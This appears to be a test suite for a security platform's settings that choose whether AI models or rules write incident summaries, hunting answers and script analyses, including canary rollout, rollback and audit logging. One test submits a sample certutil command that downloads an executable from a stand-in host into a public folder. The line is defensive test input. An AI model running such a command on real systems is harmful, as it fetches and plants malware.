import { createHash, randomUUID } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { packJson, packRows, Topic, type CardGenerated, type CompositionChanged, type Envelope } from '@attest/contracts';
import { createAuditLog, verifyAuditChain } from '@attest/identity/audit';
import { kqlAssistantService } from '@attest/kql-assistant';
import { promptHashOf } from '@attest/llm';
import { scriptAnalyzerService } from '@attest/script-analyzer';
import { chosenArm, type RunningService, type ServiceDefinition } from '@attest/service-host';
import { summarizerService } from '@attest/summarizer';
import { eventually, startFakeModel, type FakeModel } from '@attest/testing';
import { graphql } from 'graphql';
import { respondCases } from '../../libs/response-engine/src/fixtures/index.js';
import { person, startEvaluator, type Answer, type EvaluatorService } from './service.js';

interface Arm { composer: string; model: string | null; prompt: string | null; promptHash: string | null; asConfigured: boolean }
interface Composition {
  kind: string; revision: number; current: Arm; canary: Arm | null; canaryShare: number | null; rollsBackTo: number | null; mayChange: boolean; promptRefusal: string | null; shippedPrompt: string | null;
  history: { revision: number; restores: number | null; byName: string; reason: string; current: Arm }[];
}

const admin = person('ada', ['reader', 'hunter', 'responder', 'admin']);
const arm = '{ composer model prompt promptHash asConfigured }';
const composition = `kind revision current ${arm} canary ${arm} canaryShare rollsBackTo mayChange promptRefusal shippedPrompt history { revision restores byName reason current ${arm} }`;

describe('who composes the cards', () => {
  let service: EvaluatorService;
  let fake: FakeModel;
  const beside = new Map<string, RunningService>();
  const cards: CardGenerated[] = [];
  const told: CompositionChanged[] = [];
  const held = (definition: ServiceDefinition): ServiceDefinition => ({
    ...definition,
    start: async (context) => {
      const running = await definition.start(context);
      beside.set(definition.name, running);
      return running;
    },
  });

  beforeAll(async () => {
    fake = await startFakeModel('honest');
    service = await startEvaluator({ ATTEST_MODEL_URL: fake.url, ATTEST_MODEL_NAME: 'configured' }, [held(summarizerService), held(kqlAssistantService), scriptAnalyzerService]);
    await service.bus.subscribe({
      topics: [Topic.CardGenerated, Topic.CompositionChanged], group: 'listener', from: 'earliest',
      handler: ({ type, payload }: Envelope) => Promise.resolve(void (type === Topic.CardGenerated ? cards.push(payload as CardGenerated) : told.push(payload as CompositionChanged))),
    });
  });
  afterAll(async () => {
    await service?.close();
    await fake?.close();
  });

  const refusal = async (answer: Promise<Answer<unknown>>): Promise<[unknown, string | undefined]> => {
    const [error] = (await answer).errors ?? [];
    return [error?.extensions['code'], error?.message];
  };
  const set = (input: Record<string, unknown>, asker = admin): Promise<Answer<{ setComposition: Composition }>> => service.ask(`mutation ($input: SetCompositionInput!) { setComposition(input: $input) { ${composition} } }`, { input: { kind: 'incidentSummary', reason: 'A test.', ...input } }, asker);
  const step = (name: 'rollBackComposition' | 'promoteCanary', expectedRevision: number, asker = admin): Promise<Answer<Record<string, Composition>>> => service.ask(`mutation ($revision: Int!) { ${name}(kind: "incidentSummary", expectedRevision: $revision, reason: "Because.") { ${composition} } }`, { revision: expectedRevision }, asker);
  const of = async (kind: string, asker = person()): Promise<Composition> => (await service.ask<{ compositions: Composition[] }>(`{ compositions { ${composition} } }`, {}, asker)).data!.compositions.find((each) => each.kind === kind)!;
  const known = async (schema: string, tenant: string): Promise<number | undefined> => (await service.inspection.acrossTenants((manager) => manager.query<{ revision: number }[]>(`SELECT revision FROM ${schema}.composition WHERE tenant = $1`, [tenant])))[0]?.revision;
  /** Waits until the service that composes has heard of a setting. */
  const heard = (revision: number, { schema = 'summarizer', tenant = 'default' } = {}): Promise<void> => eventually(`${schema} to know revision ${revision}`, async () => (await known(schema, tenant)) === revision);

  const hostile = respondCases.find(({ name }) => name === 'ransomware on a workstation')!;
  const incident = (incidentId: string, tenant = 'default'): Envelope => ({
    id: randomUUID(), type: Topic.IncidentChanged, version: 1, tenant, key: incidentId, occurredAt: new Date().toISOString(),
    payload: {
      incidentId, revision: 1, digest: 'd'.repeat(64), change: 'imported', severity: 'high', status: 'active', alertCount: 1, incident: packJson({ ...hostile.input.incident, id: incidentId }),
      events: packRows((hostile.input.events ?? []).map((row, at) => ({ ...row, $row: at }))), eventRows: hostile.input.events?.length ?? 0, eventRowsOmitted: 0,
    },
  });
  const cardOf = (subjectId: string, version = 1): CardGenerated | undefined => cards.find((card) => card.kind === 'incidentSummary' && card.subjectId === subjectId && card.version === version);
  /** The summaries of new incidents. */
  const summaries = async (ids: readonly string[], tenant = 'default'): Promise<CardGenerated[]> => {
    await service.bus.publish(ids.map((id) => incident(id, tenant)));
    await eventually('the summaries', () => ids.every((id) => cardOf(id)), 100_000);
    return ids.map((id) => cardOf(id)!);
  };

  it('is the configuration before anything is set', async () => {
    expect(await of('incidentSummary')).toMatchObject({ revision: 0, current: { asConfigured: true, composer: 'MODEL', model: 'configured', prompt: null, promptHash: promptHashOf() }, canary: null, canaryShare: null, rollsBackTo: null, mayChange: false, promptRefusal: null, history: [] });
    expect(await of('kqlAnswer', admin)).toMatchObject({ mayChange: true, shippedPrompt: null, current: { promptHash: null }, promptRefusal: expect.stringMatching(/^Questions have no prompt to set/) as unknown });
    expect(await summaries(['untouched'])).toMatchObject([{ composer: 'model', provenance: { model: 'configured', promptHash: promptHashOf() } }]);
  });

  it('is changed by admins, with a reason, upon the revision they saw, and never to what cannot be', async () => {
    const rules = { composer: 'RULES' };
    expect(await refusal(set({ expectedRevision: 0, current: rules }, person('rea', ['reader', 'responder'])))).toEqual(['ROLE_MISSING', 'This needs the role admin.']);
    expect(await refusal(set({ expectedRevision: 0, current: rules, reason: ' ' }))).toEqual(['REASON_MISSING', 'Say why it is changed; the history and the audit log keep it.']);
    expect(await refusal(set({ expectedRevision: 4, current: rules }))).toEqual(['STALE', 'Somebody changed this meanwhile: it has revision 0 now, not 4. Look at it again.']);
    expect(await refusal(set({ expectedRevision: 0 }))).toEqual(['BAD_INPUT', 'This is what is set already.']);
    expect(await refusal(set({ expectedRevision: 0, kind: 'guidedResponse', current: rules }))).toEqual(['BAD_INPUT', 'kind takes one of incidentSummary, scriptAnalysis, kqlAnswer; rules alone compose the other cards.']);
    expect(await refusal(set({ expectedRevision: 0, kind: 'kqlAnswer', current: { composer: 'MODEL', prompt: 'Be brief.' } }))).toEqual(['BAD_INPUT', expect.stringMatching(/^Questions have no prompt to set/)]);
    expect(await refusal(set({ expectedRevision: 0, current: { composer: 'MODEL', prompt: 'x'.repeat(16_385) } }))).toEqual(['BAD_INPUT', 'current.prompt may have 16,384 bytes; this one has 16,385.']);
    expect(await refusal(set({ expectedRevision: 0, canary: { arm: { composer: 'MODEL' } } }))).toEqual(['BAD_INPUT', 'canary must not be what is current already: there would be nothing to compare.']);
    expect(await refusal(step('rollBackComposition', 0))).toEqual(['WRONG_STATE', 'There is no setting before this one to roll back to.']);
    expect(await refusal(step('promoteCanary', 0))).toEqual(['WRONG_STATE', 'There is no canary to promote.']);
    expect(await of('incidentSummary')).toMatchObject({ revision: 0, history: [] });
    expect(told).toEqual([]);
  });

  it('acts on the next card and on one made again, and a roll-back acts on the one after', async () => {
    const [before] = await summaries(['before']);
    const first = (await set({ expectedRevision: 0, current: { composer: 'MODEL', model: 'other', prompt: ' Word it briefly.\n' } })).data!.setComposition;
    expect(first).toMatchObject({ revision: 1, rollsBackTo: 0, current: { composer: 'MODEL', model: 'other', prompt: 'Word it briefly.', promptHash: promptHashOf('Word it briefly.') }, history: [{ revision: 1, byName: 'Ada Person', reason: 'A test.' }] });
    await heard(1);
    const asked = fake.requests.length;
    expect(await summaries(['worded'])).toMatchObject([{ composer: 'model', provenance: { model: 'other', promptHash: first.current.promptHash } }]);
    expect(fake.requests.slice(asked).map(({ body }) => [body['model'], (body['messages'] as { content: string }[])[0]?.content.startsWith('Word it briefly.')])).toEqual([['other', true]]);

    await set({ expectedRevision: 1, current: { composer: 'RULES' } });
    await heard(2);
    expect(await summaries(['by-rules'])).toMatchObject([{ composer: 'rules', provenance: { model: null, promptHash: null, fallback: null } }]);
    expect(fake.requests).toHaveLength(asked + 1);
    await graphql({ schema: beside.get('summarizer')!.schema, source: 'mutation { regenerateSummary(incidentId: "worded") { id } }', contextValue: { identity: admin } });
    await eventually('the summary to be made again', () => cardOf('worded', 2) !== undefined);
    expect(cardOf('worded', 2)).toMatchObject({ composer: 'rules', provenance: { model: null } });

    const back = (await step('rollBackComposition', 2)).data!['rollBackComposition'];
    expect(back).toMatchObject({ revision: 3, rollsBackTo: 0, current: { composer: 'MODEL', model: 'other', prompt: 'Word it briefly.' }, history: [{ revision: 3, restores: 1, reason: 'Because.' }, { revision: 2 }, { revision: 1 }] });
    await heard(3);
    expect(await summaries(['worded-again'])).toMatchObject([{ composer: 'model', provenance: { model: 'other', promptHash: first.current.promptHash } }]);
    expect((await step('rollBackComposition', 3)).data!['rollBackComposition']).toMatchObject({ revision: 4, rollsBackTo: null, current: { asConfigured: true, model: 'configured' } });
    await heard(4);
    expect(await summaries(['as-before'])).toMatchObject([{ provenance: { model: 'configured' } }]);
    expect(cards.filter(({ subjectId }) => subjectId === 'before')).toEqual([before]);
  });

  it('takes one of two changes upon the same revision', async () => {
    const answers = await Promise.all(['one', 'two'].map((model) => set({ expectedRevision: 4, current: { composer: 'MODEL', model } })));
    expect(answers.map(({ data, errors }) => data?.setComposition.revision ?? errors?.[0]?.extensions['code']).sort()).toEqual([5, 'STALE']);
  });

  it('gives a canary its share of incidents, each of which stays with its arm, until it is promoted', async () => {
    const ids = Array.from({ length: 40 }, (_, at) => `canary-${at}`);
    const share = 30;
    const { data } = await set({ expectedRevision: 5, current: { composer: 'RULES' }, canary: { arm: { composer: 'MODEL', model: 'challenger' }, share } });
    expect(data?.setComposition).toMatchObject({ revision: 6, canaryShare: share, canary: { model: 'challenger' } });
    await heard(6);
    const [model, rules] = [{ composer: 'model', model: 'challenger', prompt: null } as const, { composer: 'rules', model: null, prompt: null } as const];
    const armOf = (id: string): string => chosenArm({ kind: 'incidentSummary', revision: 6, current: rules, canary: { arm: model, share } }, 'default', id)!.composer;
    const expected = ids.map(armOf);
    expect(new Set(expected).size).toBe(2);
    expect((await summaries(ids)).map(({ composer }) => composer)).toEqual(expected);
    for (const id of [ids[expected.indexOf('model')]!, ids[expected.indexOf('rules')]!]) {
      await graphql({ schema: beside.get('summarizer')!.schema, source: 'mutation ($id: ID!) { regenerateSummary(incidentId: $id) { id } }', variableValues: { id }, contextValue: { identity: admin } });
      await eventually('the summary to be made again', () => cardOf(id, 2) !== undefined);
      expect(cardOf(id, 2)?.composer).toBe(armOf(id));
    }
    expect((await step('promoteCanary', 6)).data!['promoteCanary']).toMatchObject({ revision: 7, rollsBackTo: 6, canary: null, canaryShare: null, current: { model: 'challenger' } });
    await heard(7);
    expect(await summaries(['promoted'])).toMatchObject([{ composer: 'model', provenance: { model: 'challenger' } }]);
  });

  it('is the newest setting whatever the order events come in, apart for each tenant', async () => {
    const [tenant, marker] = ['out-of-order', 'heard-last'];
    const event = (revision: number, model: string, of = tenant): Envelope<CompositionChanged> => ({
      id: randomUUID(), type: Topic.CompositionChanged, version: 1, tenant: of, key: 'incidentSummary', occurredAt: new Date().toISOString(),
      payload: { kind: 'incidentSummary', revision, current: { composer: 'model', model, prompt: null }, canary: null, by: { subject: 'ada', name: 'Ada' }, reason: 'A test.', at: new Date().toISOString() },
    });
    // Events of one key are handled in the order they were published: once the last is known, so are the others.
    await service.bus.publish([event(8, 'older'), event(9, 'newest'), event(3, 'oldest'), event(8, 'older again'), event(9, 'the same again'), event(1, 'marker', marker)]);
    await heard(1, { tenant: marker });
    expect(await known('summarizer', tenant)).toBe(9);
    expect(await summaries(['theirs'], tenant)).toMatchObject([{ provenance: { model: 'newest' } }]);
    expect(await known('summarizer', 'default')).toBe(7);
    expect(await known('kql_assistant', tenant)).toBeUndefined();
  });

  it('decides about questions too, whose model is another or none', async () => {
    const ask = (): Promise<unknown> => graphql({ schema: beside.get('kqlAssistant')!.schema, source: 'mutation { askHunt(question: "List process events with file name powershell.exe") { composer model fallback } }', contextValue: { identity: admin } });
    const asked = fake.requests.length;
    await set({ kind: 'kqlAnswer', expectedRevision: 0, current: { composer: 'MODEL', model: 'asker' } });
    await heard(1, { schema: 'kql_assistant' });
    // The fake speaks of summaries only, so the rules answer in the end; it was the one to be asked.
    expect(await ask()).toMatchObject({ data: { askHunt: { composer: 'RULES', fallback: expect.any(String) as unknown } } });
    expect(new Set(fake.requests.slice(asked).map(({ body }) => body['model']))).toEqual(new Set(['asker']));
    await set({ kind: 'kqlAnswer', expectedRevision: 1, current: { composer: 'RULES' } });
    await heard(2, { schema: 'kql_assistant' });
    const [since, answer] = [fake.requests.length, await ask()];
    expect(answer).toMatchObject({ data: { askHunt: { composer: 'RULES', fallback: null } } });
    expect(fake.requests).toHaveLength(since);
  });

  it('decides about scripts, with a prompt of their own', async () => {
    const script = Buffer.from('certutil -urlcache -split -f http://b.example.test/x.exe C:\\Users\\Public\\x.exe');
    const sha256 = createHash('sha256').update(script).digest('hex');
    const { data } = await set({ kind: 'scriptAnalysis', expectedRevision: 0, current: { composer: 'MODEL', prompt: 'Explain the script.' } });
    await heard(1, { schema: 'script_analyzer' });
    await service.bus.publish([{ id: randomUUID(), type: Topic.ScriptSubmitted, version: 1, tenant: 'default', key: sha256, occurredAt: new Date().toISOString(), payload: { sha256, content: gzipSync(script).toString('base64'), size: script.length } }]);
    await eventually('the script to be explained', () => cards.some(({ kind }) => kind === 'scriptAnalysis'), 60_000);
    expect(data?.setComposition.current.promptHash).toBe(promptHashOf('Explain the script.'));
    expect(cards.find(({ kind }) => kind === 'scriptAnalysis')).toMatchObject({ subjectId: sha256, provenance: { model: 'configured', promptHash: promptHashOf('Explain the script.') } });
    expect((fake.requests.at(-1)?.body['messages'] as { content: string }[])[0]?.content).toMatch(/^Explain the script\./);
  });

  it('leaves each change in the audit log and on the bus, once, with who did it and why', async () => {
    const rows = await service.inspection.inTenant('default', (manager) => createAuditLog('evaluator').rows(manager, 'default', { first: 100, oldestFirst: true }));
    expect(verifyAuditChain(rows)).toMatchObject({ ok: true, rows: rows.length });
    expect(rows.filter(({ subjectId }) => subjectId === 'incidentSummary').map(({ operation }) => operation)).toEqual(['composition.set', 'composition.set', 'composition.rolledBack', 'composition.rolledBack', 'composition.set', 'composition.set', 'composition.canaryPromoted']);
    expect(rows[0]).toMatchObject({ actor: { kind: 'person', subject: 'ada', name: 'Ada Person' }, details: { revision: 1, reason: 'A test.', current: { composer: 'model', model: 'other', promptHash: promptHashOf('Word it briefly.') } } });
    expect(JSON.stringify(rows)).not.toContain('Word it briefly');
    const own = told.filter(({ kind, by }) => kind === 'incidentSummary' && by.name === 'Ada Person');
    expect(own.map(({ revision }) => revision)).toEqual([1, 2, 3, 4, 5, 6, 7]);
    expect(own[0]).toMatchObject({ by: { subject: 'ada', name: 'Ada Person' }, reason: 'A test.', current: { composer: 'model', model: 'other', prompt: 'Word it briefly.' }, canary: null });
  });
});
